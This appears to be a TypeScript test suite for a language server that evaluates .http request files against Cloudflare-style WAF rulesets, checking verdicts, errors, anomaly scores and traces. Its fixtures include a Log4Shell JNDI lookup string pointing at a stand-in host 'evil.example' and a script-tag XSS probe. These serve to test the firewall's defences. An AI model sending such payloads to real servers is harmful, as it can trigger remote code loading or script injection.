// "Evaluate" for .http files over the wire: rulesmith/httpRequests, evaluateRequests and
// evaluationTrace against the built server. Fixtures in test/fixtures/evaluate/: a zone
// of two entry points (custom.ruleset.json: two custom rules; zone.ruleset.json: the
// vendor managed ruleset), requests.http (Log4Shell, benign, custom-rule hits, one
// malformed), nested/deeper/requests.http (two folders below the rulesets) and
// alt/challenge.ruleset.json (for the setting). Error cases build their folders in a
// temporary directory. The test client answers workspace/workspaceFolders with `folders`.
import assert from 'node:assert/strict';
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { after, before, describe, test } from 'node:test';
import { EvaluateRequestsRequest, EvaluationTraceRequest, HttpRequestsRequest, type EvaluateRequestsParams, type EvaluateRequestsResult, type EvaluationTraceResult, type HttpRequestInfo } from '../../server/src/protocol';
import { LspClient, ROOT } from './client';

const DIR = `${ROOT}test/fixtures/evaluate/`;
const uriOf = (path: string) => pathToFileURL(path).href;
const HTTP = uriOf(`${DIR}requests.http`);
const NESTED = uriOf(`${DIR}nested/deeper/requests.http`);
const CUSTOM = uriOf(`${DIR}custom.ruleset.json`);
const ZONE = uriOf(`${DIR}zone.ruleset.json`);

let client: LspClient;
let folders: string[] = [DIR];
const settings = new Map<string, unknown>();
const temps: string[] = [];

before(async () => {
  client = await LspClient.start({ settings: (uri) => (uri !== undefined ? (settings.get(uri) ?? {}) : {}) });
  client.connection.onRequest('workspace/workspaceFolders', () => folders.map((f, i) => ({ uri: uriOf(f), name: `folder${i}` })));
});
after(async () => {
  await client?.close();
  for (const t of temps) rmSync(t, { recursive: true, force: true });
});

function evaluate(params: EvaluateRequestsParams): Promise<EvaluateRequestsResult> {
  return client.request(EvaluateRequestsRequest.method, params);
}

function trace(httpUri: string, index: number, httpText?: string, view?: { allRules?: boolean; internals?: boolean }): Promise<EvaluationTraceResult> {
  return client.request(EvaluationTraceRequest.method, { httpUri, index, ...(httpText !== undefined ? { httpText } : {}), ...(view ? { view } : {}) });
}

const titles = (r: EvaluateRequestsResult) => r.requests.map((x) => x.verdict?.title ?? null);

/** A temporary folder with these files; returns its path (with a trailing slash). */
function folderWith(files: Record<string, string>): string {
  const dir = `${mkdtempSync(join(tmpdir(), 'rulesmith-eval-'))}/`;
  temps.push(dir);
  for (const [name, text] of Object.entries(files)) {
    mkdirSync(join(dir, name, '..'), { recursive: true });
    writeFileSync(join(dir, name), text);
  }
  return dir;
}

const LOG4SHELL = '### Log4Shell\nGET https://example.com/?x=${jndi:ldap://evil.example/a} HTTP/1.1\n';
const ENTRY = (phase: string, rules: unknown[]) => JSON.stringify({ name: 'z', kind: 'zone', phase, rules }, null, 2);

describe('evaluateRequests', () => {
  test('the nearest folder is the zone: verdicts of every request, exactly', async () => {
    const r = await evaluate({ httpUri: HTTP });
    assert.equal(r.error, undefined);
    assert.equal(r.rulesetFrom, 'nearest');
    assert.deepEqual(r.rulesetUris, [CUSTOM, ZONE]);
    assert.deepEqual(titles(r), [
      'Blocked by vendor:log4shell-uri (http_request_firewall_managed)',
      'Passed — no rule acted',
      'Blocked by block-admin (http_request_firewall_custom)',
      'Managed challenge by challenge-login (http_request_firewall_custom)',
      null,
    ]);
    const [log4shell, home, admin] = r.requests;
    assert.deepEqual(log4shell.verdict, {
      action: 'block',
      title: 'Blocked by vendor:log4shell-uri (http_request_firewall_managed)',
      rule: 'vendor:log4shell-uri',
      ruleId: log4shell.verdict!.ruleId,
      ref: 'log4shell-uri',
      description: 'Apache Log4j - Remote Code Execution - URI - CVE:CVE-2021-44228',
      phase: 'http_request_firewall_managed',
      rulesetId: 'efb7b8c949ac4650a09736fc376e9aee',
      rulesetName: 'Cloudflare Managed Ruleset',
    });
    assert.match(log4shell.verdict!.ruleId!, /^[0-9a-f]{32}$/);
    assert.deepEqual(
      { index: log4shell.index, name: log4shell.name, summary: log4shell.summary, line: log4shell.line, problems: log4shell.problems },
      { index: 0, name: 'Log4Shell in the query', summary: 'GET /search?q=${jndi:ldap://evil.example/a}', line: 1, problems: [] },
    );
    assert.deepEqual(home.verdict, { action: 'allow-through', title: 'Passed — no rule acted' });
    assert.equal(admin.verdict?.description, 'No admin area from outside the office');
  });

  test('a malformed request is listed with its problems and not evaluated; the others are', async () => {
    const r = await evaluate({ httpUri: HTTP });
    const broken = r.requests[4];
    assert.deepEqual(broken, {
      index: 4,
      name: 'Broken header',
      summary: 'GET https://example.com/ HTTP/1.1',
      line: 19,
      problems: ['line 21: bad header name "Bad Header": a header name is letters, digits and !#$%&\'*+.^_`|~- (no spaces)'],
    });
  });

  test('`index` evaluates that request only', async () => {
    const r = await evaluate({ httpUri: HTTP, index: 2 });
    assert.deepEqual(titles(r), [null, null, 'Blocked by block-admin (http_request_firewall_custom)', null, null]);
    assert.equal(r.requests.length, 5);
  });

  test('the nearest lookup walks up from the .http file to the folder with rulesets', async () => {
    const r = await evaluate({ httpUri: NESTED });
    assert.equal(r.rulesetFrom, 'nearest');
    assert.deepEqual(r.rulesetUris, [CUSTOM, ZONE]);
    assert.deepEqual(titles(r), ['Blocked by vendor:log4shell-header (http_request_firewall_managed)']);
  });

  test('the setting rulesmith.evaluation.ruleset (relative to the workspace folder) wins over the nearest', async () => {
    settings.set(HTTP, { evaluation: { ruleset: 'alt/challenge.ruleset.json' } });
    try {
      await client.settingsChanged();
      const r = await evaluate({ httpUri: HTTP });
      assert.equal(r.rulesetFrom, 'setting');
      assert.deepEqual(r.rulesetUris, [uriOf(`${DIR}alt/challenge.ruleset.json`)]);
      assert.deepEqual(titles(r), ['Managed challenge by challenge-search (http_request_firewall_custom)', 'Passed — no rule acted', 'Passed — no rule acted', 'Passed — no rule acted', null]);
      // `rulesetUri` wins over the setting; a folder is read as a zone.
      const p = await evaluate({ httpUri: HTTP, rulesetUri: uriOf(DIR) });
      assert.equal(p.rulesetFrom, 'parameter');
      assert.equal(titles(p)[0], 'Blocked by vendor:log4shell-uri (http_request_firewall_managed)');
    } finally {
      settings.delete(HTTP);
      await client.settingsChanged();
    }
    assert.equal((await evaluate({ httpUri: HTTP })).rulesetFrom, 'nearest');
  });

  test('a setting naming a missing file says so, with the file', async () => {
    settings.set(HTTP, { evaluation: { ruleset: 'nope/missing.ruleset.json' } });
    try {
      await client.settingsChanged();
      const r = await evaluate({ httpUri: HTTP });
      assert.equal(r.error?.code, 'unreadable');
      assert.equal(r.error?.message, 'Cannot read the ruleset nope/missing.ruleset.json: the file does not exist or is not readable.');
      assert.deepEqual(titles(r), [null, null, null, null, null]);
    } finally {
      settings.delete(HTTP);
      await client.settingsChanged();
    }
  });

  test('the text sent with the request is evaluated, not the file on disk', async () => {
    const r = await evaluate({ httpUri: HTTP, httpText: '### Only one\n# @ip.src 198.51.100.7\nGET https://example.com/admin HTTP/1.1\n' });
    assert.deepEqual(titles(r), ['Blocked by block-admin (http_request_firewall_custom)']);
    assert.equal(r.requests[0].line, 2);
  });

  test('a ruleset open in the editor is read from the editor (unsaved edits count), then from disk again once closed', async () => {
    const text = readFileSync(`${DIR}custom.ruleset.json`, 'utf8').replace('"action": "block"', '"action": "log"');
    await client.open(CUSTOM, 'json', text);
    try {
      const r = await evaluate({ httpUri: HTTP, index: 2 });
      // The rule now logs: the pass names it (never "no rule acted" when a rule logged).
      assert.equal(titles(r)[2], 'Passed — logged by block-admin');
    } finally {
      await client.closeDocument(CUSTOM);
    }
    assert.equal(titles(await evaluate({ httpUri: HTTP, index: 2 }))[2], 'Blocked by block-admin (http_request_firewall_custom)');
  });

  test('no ruleset between the .http file and its workspace folder: a clear error, the requests still listed', async () => {
    const dir = folderWith({ 'requests.http': LOG4SHELL });
    folders = [dir];
    try {
      const r = await evaluate({ httpUri: uriOf(`${dir}requests.http`) });
      assert.equal(r.error?.code, 'no-ruleset');
      assert.equal(r.error?.message, `No ruleset to evaluate against: no *.ruleset.json between requests.http and the workspace folder ${dir.slice(0, -1)}. Add one, or set rulesmith.evaluation.ruleset.`);
      assert.deepEqual(r.requests.map((x) => [x.index, x.summary, x.verdict]), [[0, 'GET /?x=${jndi:ldap://evil.example/a}', undefined]]);
    } finally {
      folders = [DIR];
    }
  });

  test('an unsaved .http file (not a file: URI) without the setting: the error says to set it', async () => {
    const r = await evaluate({ httpUri: 'untitled:Untitled-1', httpText: LOG4SHELL });
    assert.equal(r.error?.code, 'no-ruleset');
    assert.match(r.error!.message, /this file is not saved in a folder.*Set rulesmith\.evaluation\.ruleset\./);
  });

  test('a ruleset with errors is not evaluated: the error gives the first ones with file, line and rule', async () => {
    const dir = folderWith({
      'bad.ruleset.json': ENTRY('http_request_firewall_custom', [{ ref: 'typo', expression: 'http.hots eq "a"', action: 'block' }]),
      'requests.http': LOG4SHELL,
    });
    folders = [dir];
    try {
      const r = await evaluate({ httpUri: uriOf(`${dir}requests.http`) });
      assert.equal(r.error?.code, 'ruleset-invalid');
      assert.equal(r.error?.message, 'The ruleset bad.ruleset.json has 1 error: fix it to evaluate requests.');
      assert.equal(r.error?.rulesetUri, uriOf(`${dir}bad.ruleset.json`));
      assert.equal(r.error?.details.length, 1);
      assert.match(r.error!.details[0], /^bad\.ruleset\.json:8:\d+: error\[[a-z-]+\] \(rule 1 "typo"\): unknown identifier/);
      // Where "Open first error" goes: the expression's `http.hots`, 0-based.
      const column = Number(/^bad\.ruleset\.json:8:(\d+):/.exec(r.error!.details[0])![1]);
      assert.deepEqual(r.error?.location, { uri: uriOf(`${dir}bad.ruleset.json`), line: 7, character: column - 1 });
      assert.equal(readFileSync(`${dir}bad.ruleset.json`, 'utf8').split('\n')[7].slice(column - 1, column - 1 + 'http.hots'.length), 'http.hots');
      const t = await trace(uriOf(`${dir}requests.http`), 0);
      assert.equal(t.error?.code, 'ruleset-invalid');
      assert.match(t.markdown, /has 1 error/);
    } finally {
      folders = [DIR];
    }
  });

  test('invalid JSON, and two entry points of one phase in the nearest folder, are explained', async () => {
    const dir = folderWith({ 'broken.ruleset.json': '{ "phase": ', 'requests.http': LOG4SHELL });
    const two = folderWith({
      'a.ruleset.json': ENTRY('http_request_firewall_custom', []),
      'b.ruleset.json': ENTRY('http_request_firewall_custom', []),
      'requests.http': LOG4SHELL,
    });
    folders = [dir, two];
    try {
      const r = await evaluate({ httpUri: uriOf(`${dir}requests.http`) });
      assert.equal(r.error?.code, 'ruleset-invalid');
      assert.equal(r.error?.message, 'The ruleset broken.ruleset.json cannot be used.');
      assert.match(r.error!.details[0], /^broken\.ruleset\.json: invalid JSON: /);
      assert.deepEqual(r.error?.location, { uri: uriOf(`${dir}broken.ruleset.json`), line: 0, character: 0 });
      const a = await evaluate({ httpUri: uriOf(`${two}requests.http`) });
      assert.equal(a.error?.code, 'ambiguous-ruleset');
      assert.match(a.error!.message, /^Several rulesets in .* \(a\.ruleset\.json, b\.ruleset\.json\) and 2 are http_request_firewall_custom entry points: choose what to evaluate against with the setting rulesmith\.evaluation\.ruleset\.$/);
      // The files the client offers in its quick pick (the setting then names one).
      assert.deepEqual(a.error?.candidates, [uriOf(`${two}a.ruleset.json`), uriOf(`${two}b.ruleset.json`)]);
    } finally {
      folders = [DIR];
    }
  });

  test('custom rulesets next to the entry point are found by their id', async () => {
    const id = '0123456789abcdef0123456789abcdef';
    const dir = folderWith({
      'entry.ruleset.json': ENTRY('http_request_firewall_custom', [{ ref: 'run-api', expression: 'starts_with(http.request.uri.path, "/api/")', action: 'execute', action_parameters: { id } }]),
      'api.ruleset.json': JSON.stringify({ id, name: 'API rules', kind: 'custom', phase: 'http_request_firewall_custom', rules: [{ ref: 'api-no-put', expression: 'http.request.method eq "PUT"', action: 'block' }] }),
      'requests.http': '### put\nPUT https://example.com/api/items/1 HTTP/1.1\n\n### get\nGET https://example.com/api/items/1 HTTP/1.1\n',
    });
    folders = [dir];
    try {
      const r = await evaluate({ httpUri: uriOf(`${dir}requests.http`) });
      assert.equal(r.error, undefined);
      assert.deepEqual(r.rulesetUris, [uriOf(`${dir}entry.ruleset.json`)]);
      assert.deepEqual(titles(r), ['Blocked by api-no-put (http_request_firewall_custom)', 'Passed — no rule acted']);
      assert.equal(r.requests[0].verdict?.rulesetName, 'API rules');
    } finally {
      folders = [DIR];
    }
  });
});

describe('anomaly scores (the OWASP-based ruleset)', () => {
  // Only the shape is asserted: the scores depend on the OWASP rules shipped (a stand-in
  // until the CRS conversion), a <script> tag in the query scores at PL1 in both.
  const OWASP = '4814384a9e5d4991b9815dcfc25d2f1f';
  const ANOMALY = '6179ae15870a4bb7b2d480d4843b323c';
  const deploy = (threshold: number) =>
    ENTRY('http_request_firewall_managed', [
      {
        ref: 'deploy-owasp',
        expression: 'true',
        action: 'execute',
        action_parameters: {
          id: OWASP,
          overrides: {
            categories: [2, 3, 4].map((l) => ({ category: `paranoia-level-${l}`, enabled: false })),
            rules: [{ id: ANOMALY, score_threshold: threshold, action: 'managed_challenge' }],
          },
        },
      },
    ]);
  const REQUESTS = '### xss\nGET https://example.com/search?q=%3Cscript%3Ealert(1)%3C/script%3E HTTP/1.1\n\n### home\nGET https://example.com/ HTTP/1.1\n';

  test('the anomaly rule acting shows the score and the threshold; under the threshold the score is shown with the pass', async () => {
    const low = folderWith({ 'owasp.ruleset.json': deploy(5), 'requests.http': REQUESTS });
    const high = folderWith({ 'owasp.ruleset.json': deploy(1000), 'requests.http': REQUESTS });
    folders = [low, high];
    try {
      const r = await evaluate({ httpUri: uriOf(`${low}requests.http`) });
      assert.equal(r.error, undefined, JSON.stringify(r.error));
      const [xss, home] = r.requests;
      const m = /^Managed challenge by owasp:949110 \(http_request_firewall_managed\) · anomaly score (\d+) ≥ 5 from owasp:9\d{5}(, owasp:9\d{5})*( and owasp:9\d{5})?( and \d+ more)?$/.exec(xss.verdict?.title ?? '');
      assert.ok(m, xss.verdict?.title);
      assert.equal(xss.verdict?.score, Number(m[1]));
      assert.ok(xss.verdict!.score! >= 5);
      assert.equal(xss.verdict?.threshold, 5);
      assert.equal(xss.verdict?.description, '949110: Inbound Anomaly Score Exceeded');
      // Scored rules ran, so the pass shows the score it stayed at, and the threshold.
      // A score of 0 is nothing that happened; a higher one names the rules that scored.
      if (home.verdict?.score === 0) assert.equal(home.verdict.title, 'Passed — no rule acted');
      else assert.match(home.verdict?.title ?? '', /^Passed — anomaly score \d < 5 from owasp:9\d{5}/);
      assert.equal(home.verdict?.threshold, 5);

      const h = await evaluate({ httpUri: uriOf(`${high}requests.http`), index: 0 });
      const score = h.requests[0].verdict?.score;
      assert.match(h.requests[0].verdict?.title ?? '', new RegExp(`^Passed — anomaly score ${score} < 1000 from owasp:9\\d{5}`));
      assert.equal(h.requests[0].verdict?.threshold, 1000);
      const t = await trace(uriOf(`${high}requests.http`), 0);
      assert.ok(t.markdown.includes(`| ${score} / 1000 |`) || t.markdown.includes('below threshold'), t.markdown);
      assert.match(t.markdown, /\| \+\d+ \(= \d+\) \|/);
      assert.match(t.markdown, /- Anomaly score: \d+ \(Cloudflare OWASP Core Ruleset\)/);
    } finally {
      folders = [DIR];
    }
  });
});

describe('httpRequests', () => {
  test('every request block with its line, name, summary and problems; nothing evaluated', async () => {
    const { requests } = await client.request<{ requests: HttpRequestInfo[] }>(HttpRequestsRequest.method, { httpUri: HTTP });
    assert.deepEqual(
      requests.map((r) => [r.index, r.line, r.name, r.summary, r.problems.length]),
      [
        [0, 1, 'Log4Shell in the query', 'GET /search?q=${jndi:ldap://evil.example/a}', 0],
        [1, 5, 'Home page', 'GET /', 0],
        [2, 10, 'Admin area', 'GET /admin/users', 0],
        [3, 13, 'Login', 'POST /login', 0],
        [4, 19, 'Broken header', 'GET https://example.com/ HTTP/1.1', 1],
      ],
    );
    assert.ok(requests.every((r) => !('verdict' in r)));
  });
});

describe('evaluationTrace', () => {
  test('the Markdown trace: request, field values, every rule looked at per phase, the deciding rule', async () => {
    const t = await trace(HTTP, 0);
    assert.equal(t.error, undefined);
    assert.equal(t.verdict?.title, 'Blocked by vendor:log4shell-uri (http_request_firewall_managed)');
    const md = t.markdown;
    assert.ok(md.startsWith('# Log4Shell in the query — requests.http\n\n**Blocked by vendor:log4shell-uri (http_request_firewall_managed)**\n'), md.slice(0, 200));
    assert.ok(md.includes('- Request: `GET /search?q=${jndi:ldap://evil.example/a}` (requests.http, line 2)'));
    assert.ok(md.includes('- Ruleset: `custom.ruleset.json + zone.ruleset.json`'));
    assert.ok(md.includes('| `http.request.uri.query` | `q=${jndi:ldap://evil.example/a}` |'));
    // Matched only (the default): the rules that did not match are hidden (here the whole
    // custom phase), and the page says so.
    assert.ok(!md.includes('## `http_request_firewall_custom`'));
    assert.ok(!md.includes('| 1 | `block-admin` No admin area from outside the office | no | block | not matched |  |  |'));
    assert.match(md, /_Showing matched rules only \(\d+ not matched hidden\); `crs\.\*` fields hidden \(\d+\)\. Switch with the buttons in the title bar of this view/);
    // All rules: both phases, in order, each rule with matched / action / outcome.
    const all = (await trace(HTTP, 0, undefined, { allRules: true })).markdown;
    const custom = all.indexOf('## `http_request_firewall_custom`');
    const managed = all.indexOf('## `http_request_firewall_managed`');
    assert.ok(custom > 0 && managed > custom);
    assert.ok(all.includes('| 1 | `block-admin` No admin area from outside the office | no | block | not matched |  |  |'));
    assert.ok(all.includes('_Showing all rules; `crs.*` fields hidden'));
    assert.ok(md.includes('| 1 | `deploy-vendor` Execute Cloudflare Managed Ruleset | yes | execute | executed |'));
    assert.ok(md.includes('**↳ Cloudflare Managed Ruleset**'));
    assert.ok(md.includes('| 1 | `vendor:log4shell-uri` Apache Log4j - Remote Code Execution - URI - CVE:CVE-2021-44228 | yes | block | **acted** |  |  |'));
    assert.ok(md.endsWith('## Decision\n\n**block** by `vendor:log4shell-uri` Apache Log4j - Remote Code Execution - URI - CVE:CVE-2021-44228 in `http_request_firewall_managed`.\n'), md.slice(-300));
  });

  test('a passed request, all rules: every vendor rule looked at and not matched', async () => {
    const t = await trace(HTTP, 1, undefined, { allRules: true });
    assert.equal(t.verdict?.title, 'Passed — no rule acted');
    const rows = t.markdown.split('\n').filter((l) => l.startsWith('| ') && l.includes('`vendor:'));
    assert.ok(rows.length >= 40, `${rows.length} vendor rules in the trace`);
    assert.ok(rows.every((l) => / \| (no|—) \| /.test(l)), 'none matched');
    assert.ok(t.markdown.includes('**Passed**: no rule blocked or challenged the request.'));
  });

  test('a malformed request: the trace says why it was not evaluated', async () => {
    const t = await trace(HTTP, 4);
    assert.equal(t.verdict, undefined);
    assert.ok(t.markdown.includes('This request is malformed and was not evaluated (requests.http, line 20):'));
    assert.ok(t.markdown.includes('bad header name'));
  });

  test('an index past the last request', async () => {
    const t = await trace(HTTP, 9);
    assert.ok(t.markdown.includes('requests.http has no request 10: it has 5.'));
  });
});
